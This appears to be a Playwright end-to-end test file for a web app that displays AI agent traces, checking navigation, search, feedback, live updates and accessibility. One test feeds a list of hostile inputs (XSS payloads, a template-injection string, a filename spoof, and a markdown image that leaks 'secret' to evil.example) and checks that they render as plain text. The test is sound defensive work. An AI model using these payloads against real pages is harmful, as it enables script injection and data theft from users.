import type { TraceSkeleton } from '@assay/protocol'
import type { Browser } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { lacks } from '../../tools/test/lacks.ts'
import type { ReusedPage } from '../harness/browser.ts'
import { axeViolationsInBothThemes, launchBrowser, reusePage } from '../harness/browser.ts'
import { sendTrace } from '../harness/otlp-json.ts'
import type { RunningServer } from '../harness/server.ts'
import { eventually, startServer } from '../harness/server.ts'

/** Everything that a page could take for more than text (HX-50, HX-51, HX-54). */
const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '[a](javascript:alert(1))',
  '![](http://evil.example/?q=secret)',
  '"><iframe srcdoc="<script>alert(1)</script>">',
  '\u202egnp.exe',
  '\u001b[31mred',
  '{{constructor.constructor("alert(1)")()}}',
]

describe.skipIf(lacks('chromium'))('the pages on a real server', () => {
  let server: RunningServer
  let browser: Browser
  let projectId: string
  let failedId: string
  let reused: ReusedPage

  beforeAll(async () => {
    ;[server, browser] = await Promise.all([startServer(), launchBrowser()])
    reused = reusePage(browser)
    await sendTrace(server.url, {
      service: 'shop',
      spans: [{ name: 'agent', attributes: { 'input.value': 'Hello there', 'output.value': 'Good day' } }],
    })
    failedId = await sendTrace(server.url, {
      service: 'shop',
      spans: [
        {
          id: '00000000000000a1',
          name: 'support-agent',
          error: 'refund failed',
          attributes: { 'openinference.span.kind': 'AGENT', 'input.value': 'I want my money back' },
        },
        { id: '00000000000000a2', parent: '00000000000000a1', name: 'resolve', error: 'refund failed' },
        {
          id: '00000000000000a3',
          parent: '00000000000000a2',
          name: 'issue_refund',
          error: 'too large',
          attributes: { 'openinference.span.kind': 'TOOL', 'tool.name': 'issue_refund' },
        },
        {
          id: '00000000000000a4',
          parent: '00000000000000a1',
          name: 'chat',
          attributes: { 'openinference.span.kind': 'LLM', 'llm.model_name': 'gpt-4o', 'llm.token_count.prompt': 1000 },
        },
      ],
    })
    const { trace } = (await (await fetch(`${server.url}/api/assay/v1/traces/tr-${failedId}`)).json()) as TraceSkeleton
    projectId = trace.experimentId
  })
  afterEach(async () => {
    expect(await reused.leave()).toEqual([])
  })
  afterAll(async () => {
    await browser.close()
    await server.stop()
  })

  const open = (path: string) => reused.open(`${server.url}${path}`)

  it('lead from the address of the server to what goes on in the newest project, and to its traces', async () => {
    const page = await open('/')
    await page.waitForURL(`**/p/${projectId}/now`)
    await page.getByRole('link', { name: 'Traces', exact: true }).click()
    await page.getByText('I want my money back').waitFor()
    expect(new URL(page.url()).pathname).toBe(`/p/${projectId}/traces`)
    expect(await page.getByText('Hello there').count()).toBe(1)
  })

  it('find what a query asks for, and keep the query in the address', async () => {
    const page = await open(`/p/${projectId}/traces?q=${encodeURIComponent('tool:issue_refund status:error')}`)
    await page.getByText('I want my money back').waitFor()
    expect(await page.getByText('Hello there').count()).toBe(0)
    expect(new URL(page.url()).searchParams.get('q')).toBe('tool:issue_refund status:error')
  })

  it('open a failed trace on the deepest span that failed', async () => {
    const page = await open(`/p/${projectId}/traces/tr-${failedId}`)
    await page.locator('[role=treegrid] [aria-selected=true]', { hasText: 'issue_refund' }).waitFor()
    await page.getByText('too large').first().waitFor()
  })

  it('keep a thumb that somebody gives, and one only when the mind changes', async () => {
    const page = await open(`/p/${projectId}/traces/tr-${failedId}`)
    await page.locator('[role=treegrid] [aria-selected=true]').waitFor()
    const assessments = async () =>
      ((await (await fetch(`${server.url}/api/assay/v1/traces/tr-${failedId}`)).json()) as TraceSkeleton).trace.assessments
    await page.keyboard.press('-')
    expect(await eventually(assessments, (found) => found.length > 0)).toMatchObject([
      { kind: 'feedback', value: false, source: { type: 'HUMAN' } },
    ])
    await page.getByText('Thumb down given').waitFor()
    await page.keyboard.press('+')
    await eventually(assessments, (found) => found[0]?.value === true)
    expect(await assessments()).toHaveLength(1)
  })

  it('show a new trace without a reload', async () => {
    const page = await open(`/p/${projectId}/traces`)
    await page.getByText('Hello there').waitFor()
    await sendTrace(server.url, { service: 'shop', spans: [{ name: 'agent', attributes: { 'input.value': 'Just now' } }] })
    await page.getByText(/1 new/).click()
    await page.getByText('Just now').waitFor()
  })

  it('show 3,000 spans with at most 1,500 elements', async () => {
    const root = '00000000000000b0'
    const spans = Array.from({ length: 2999 }, (_, i) => ({ parent: root, name: `step ${i}`, startMs: Date.now() + i }))
    const traceId = await sendTrace(server.url, { service: 'large', spans: [{ id: root, name: 'agent', durationMs: 3000 }, ...spans] })
    const page = await open(`/p/${projectId}/traces/tr-${traceId}`)
    await page.getByText('3,000 spans').waitFor()
    expect(await page.locator('*').count()).toBeLessThanOrEqual(1500)
  })

  it('HX-50 HX-51 HX-54 show hostile text as text and ask nobody for anything', async () => {
    const values = Object.fromEntries(hostile.map((text, i) => [`${text} ${i}`, text]))
    const traceId = await sendTrace(server.url, {
      service: hostile[0] ?? '',
      spans: [
        {
          name: hostile[1] ?? '',
          error: hostile[2] ?? '',
          attributes: {
            ...values,
            'openinference.span.kind': 'LLM',
            'input.value': hostile.join('\n'),
            'output.value': hostile.join('\n'),
            'session.id': hostile[4] ?? '',
          },
        },
      ],
    })
    const { trace } = (await (await fetch(`${server.url}/api/assay/v1/traces/tr-${traceId}`)).json()) as TraceSkeleton
    const page = await open(`/p/${trace.experimentId}/traces`)
    await page.getByText('<img src=x onerror=alert(1)>').first().waitFor()
    await page.goto(`${server.url}/p/${trace.experimentId}/traces/tr-${traceId}`)
    await page.locator('[role=treegrid] [aria-selected=true]').waitFor()
    await page
      .getByText(/^Attributes/)
      .first()
      .click()
    await page.getByText('<svg onload=alert(1)>').first().waitFor()
    expect(await page.locator('iframe, img[src^="http"], a[href^="javascript"]').count()).toBe(0)
  })

  it('have no violation of accessibility rules in either theme', async () => {
    const page = await open(`/p/${projectId}/traces`)
    await page.getByText('Hello there').waitFor()
    expect(await axeViolationsInBothThemes(page)).toEqual([])
    await open(`/p/${projectId}/traces/tr-${failedId}`)
    await page.locator('[role=treegrid] [aria-selected=true]').waitFor()
    expect(await axeViolationsInBothThemes(page)).toEqual([])
  })
})
